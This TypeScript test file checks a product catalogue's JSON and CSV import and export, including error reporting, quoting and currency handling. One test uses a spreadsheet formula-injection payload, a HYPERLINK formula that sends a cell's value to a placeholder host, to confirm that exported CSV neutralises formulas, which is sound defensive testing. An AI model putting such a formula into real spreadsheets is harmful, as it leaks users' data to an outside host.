/** Tests that a catalogue file is read row by row, and every problem is reported. */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { currencyOf } from '../../settings/currency.ts';
import { demoCatalogue } from '../demo.ts';
import { catalogueFormat, printCatalogue, readCatalogueFile } from './file.ts';

const formats = ['json', 'csv'] as const;

const least = {
  id: 7,
  name: 'بسته',
  price: 9000,
  type: 'cell_internet',
  sim_card_type: 'credit',
  operator_id: 1,
};
const csvHeader = 'id,name,price,type,sim_card_type,operator_id';
const csvRow = '7,بسته,9000,cell_internet,credit,1';

const readJson = (...rows: unknown[]) => readCatalogueFile(JSON.stringify(rows), 'json');
const readCsv = (...lines: string[]) => readCatalogueFile(lines.join('\n'), 'csv');
const messages = ({ problems }: ReturnType<typeof readCatalogueFile>) =>
  problems.map(({ line, message }) => `${line}: ${message.en}`);

const withDefaults = {
  ...least,
  name_en: null,
  description: '',
  description_full: null,
  sku: null,
  second_price: null,
  showable_price: null,
  minimum_sale: null,
  dimension: null,
  score: 0,
  status: 1,
  options: null,
  deliverable: 0,
  third_party_id: null,
  capacity: null,
  period: null,
  order: 0,
  categories: [],
};

describe('the rows of a file', () => {
  it('are all checked, and all their problems are reported, in the order of the lines', () => {
    const text = '[\n{"id": 1},\n{"id": }\n,{"price": -1}]';
    const { problems } = readCatalogueFile(text, 'json');
    const count = (line: number) => problems.filter((problem) => problem.line === line).length;
    assert.deepEqual([count(2), count(3), count(4)], [5, 1, 6]);
    assert.deepEqual(
      problems.map((problem) => problem.line),
      [2, 2, 2, 2, 2, 3, 4, 4, 4, 4, 4, 4],
    );
  });

  it('name the field beside the sentence', () => {
    const { problems } = readJson({ ...least, price: -1, categories: [{ id: 1 }] });
    assert.deepEqual(
      problems.map((problem) => problem.field),
      ['price', 'categories[0].name'],
    );
  });

  it('may not use an id twice, even if another field is wrong', () => {
    const twice = ['4: id 7 stands on line 2 and again on line 4.'];
    assert.deepEqual(messages(readCsv(csvHeader, csvRow, '', csvRow)), twice);
    const wrong = csvRow.replace('9000', 'x');
    assert.ok(messages(readCsv(csvHeader, wrong, '', csvRow)).includes(twice[0] ?? ''));
  });

  it('may not define one category in two ways', () => {
    const first = { ...least, categories: [{ id: 3, name: 'a' }] };
    const row = (category: unknown) => JSON.stringify({ ...least, id: 8, categories: [category] });
    const read = (category: unknown) =>
      messages(readCatalogueFile(`[${JSON.stringify(first)},\n${row(category)}]`, 'json'));
    assert.deepEqual(read({ id: 3, name: 'a' }), []);
    assert.deepEqual(read({ id: 3, name: 'b' }), [
      '2: Category 3 has another name on line 2 than on line 1.',
    ]);
    assert.deepEqual(read({ id: 3, name: 'a', data: '[{"id":1,"text":"x","parent":0}]' }), [
      '2: Category 3 has another data on line 2 than on line 1.',
    ]);
  });

  it('may be absent, but the file may not be empty', () => {
    assert.deepEqual(readCatalogueFile('[]', 'json'), { products: [], problems: [] });
    assert.deepEqual(readCsv(csvHeader), { products: [], problems: [] });
    for (const format of formats) {
      for (const text of ['', '\uFEFF', ' \r\n ']) {
        assert.deepEqual(messages(readCatalogueFile(text, format)), ['1: The file is empty.']);
      }
    }
  });
});

describe('a CSV file', () => {
  it('uses the defaults for missing columns or empty cells', () => {
    assert.deepEqual(readCsv(csvHeader, csvRow), { products: [withDefaults], problems: [] });
    const read = readCsv(`${csvHeader},score,created_at`, `${csvRow},,`);
    assert.deepEqual(read, { products: [withDefaults], problems: [] });
    assert.deepEqual(
      messages(readCsv(`${csvHeader},sku`, ',,,,,,x')),
      Object.keys(least).map((name) => `2: ${name} is missing.`),
    );
  });

  it('may have its columns in any order, and spaces around their names', () => {
    const header = 'name, operator_id,id ,sim_card_type,type,price';
    const { products, problems } = readCsv(header, 'بسته,1,7,credit,cell_internet,9000');
    assert.deepEqual({ products, problems }, { products: [withDefaults], problems: [] });
  });

  it('may have a byte order mark, empty lines, and rows of commas that a spreadsheet left', () => {
    const text = `\uFEFF${csvHeader}\r\n\r\n${csvRow}\r\n,,,,,\r\n`;
    assert.deepEqual(readCatalogueFile(text, 'csv'), { products: [withDefaults], problems: [] });
  });

  it('holds JSON in some columns, and other text is plain text', () => {
    const header = `${csvHeader},dimension,options,third_party_id,capacity,categories`;
    const cells = '"{""a"":[1]}",null,"AB-12, 3",10,"[{""id"":3,""name"":""a""}]"';
    const [read] = readCsv(header, `${csvRow},${cells}`).products;
    assert.deepEqual(
      [
        read?.dimension,
        read?.options,
        read?.third_party_id,
        read?.capacity,
        read?.categories.length,
      ],
      [{ a: [1] }, null, 'AB-12, 3', 10, 1],
    );
  });

  it('reports unknown, nameless or duplicate columns, at the header', () => {
    assert.deepEqual(messages(readCsv('', `${csvHeader},prise,,id`, `${csvRow},1,2,3`)), [
      '2: The column "prise" is not known. Is it misspelt?',
      '2: Column 8 has no name.',
      '2: The column id stands more than once.',
    ]);
  });

  it('reports rows with too few or too many cells', () => {
    assert.deepEqual(messages(readCsv(csvHeader, '1,2', csvRow, `${csvRow},`)), [
      '2: This row has 2 cells, and the header has 6.',
      '4: This row has 7 cells, and the header has 6.',
    ]);
  });

  it('reports broken quoting, and reads the rows around it', () => {
    const opened = csvRow.replace('بسته', 'a "b" c');
    assert.deepEqual(messages(readCsv(csvHeader, csvRow, opened, csvRow.replace('7', 'x'))), [
      '3: The cell that begins on this line holds a quote but is not quoted. Quote it, and double the quotes inside.',
      '4: id must be a plain number, not "x".',
    ]);
    const closed = csvRow.replace('بسته', '"a" b"');
    assert.deepEqual(messages(readCsv(csvHeader, closed, csvRow)), [
      '2: In the cell that begins on this line a quote is not doubled, or text follows the closing one.',
    ]);
    const never = csvRow.replace('بسته', '"a');
    assert.deepEqual(messages(readCsv(csvHeader, csvRow, '', never, csvRow)), [
      '4: The cell that begins on this line opens with a quote that is never closed.',
    ]);
    assert.deepEqual(messages(readCsv('id,na"me', csvRow)), [
      '1: The cell that begins on this line holds a quote but is not quoted. Quote it, and double the quotes inside.',
    ]);
  });
});

describe('the format of a file', () => {
  it('follows from its extension', () => {
    assert.equal(catalogueFormat('a.b/c.json'), 'json');
    assert.equal(catalogueFormat('A.CSV'), 'csv');
    for (const name of ['json', 'a.jsonl', 'a.csv.gz', '']) {
      assert.equal(catalogueFormat(name), undefined);
    }
  });
});

describe('a printed file', () => {
  it('prints a product a line in JSON, and all 26 columns in CSV', () => {
    const products = demoCatalogue().slice(0, 3);
    const json = [...printCatalogue(products, 'json')].join('').split('\n');
    assert.deepEqual(json, [
      '[',
      ...products.map((it, at) => JSON.stringify(it) + (at < 2 ? ',' : '')),
      ']',
      '',
    ]);
    const [header] = printCatalogue([], 'csv');
    assert.equal(header?.trimEnd().split(',').length, 26);
  });

  it('holds no formula that a spreadsheet would evaluate, and reads back unchanged', () => {
    const formula = '=HYPERLINK("http://example.invalid/?x="&A1)';
    for (const text of [formula, '+1 GB', '-1', '@a', '\tx', "'=1", "''+1", "'a", '=']) {
      const { products } = readJson({ ...least, name: text, name_en: text, options: text });
      const csv = [...printCatalogue(products, 'csv')].join('');
      assert.doesNotMatch(csv, /(?:^|,|\n)"?[=+@\t]/);
      assert.deepEqual(readCatalogueFile(csv, 'csv'), { products, problems: [] });
    }
  });

  it('names the currency of its prices in a last column of CSV, which is compared when it is read', () => {
    const products = demoCatalogue().slice(0, 2);
    const text = [...printCatalogue(products, 'csv', currencyOf('IRT'))].join('');
    assert.match(text, /,currency\r\n(?:[^]*,IRT\r\n){2}$/);
    const read = (own: string | null) => readCatalogueFile(text, 'csv', undefined, own);
    assert.deepEqual(read('IRT'), { products, problems: [] });
    assert.deepEqual(messages(read('IRR')), [
      '2: The prices are in "IRT", and this gateway sells in IRR. Convert them first.',
    ]);
    assert.match(messages(read(null)).join(), /^2: .* no currency is set here\./);
    const empty = readCatalogueFile(text.replaceAll(',IRT', ','), 'csv', undefined, 'IRR');
    assert.deepEqual(empty, { products, problems: [] });
  });

  it('keeps a time that is null in JSON; CSV cannot express it', () => {
    const products = readJson({ ...least, created_at: null }).products;
    const read = (format: 'json' | 'csv') =>
      readCatalogueFile([...printCatalogue(products, format)].join(''), format).products;
    assert.deepEqual(read('json'), products);
    assert.deepEqual(read('csv'), [withDefaults]);
  });
});
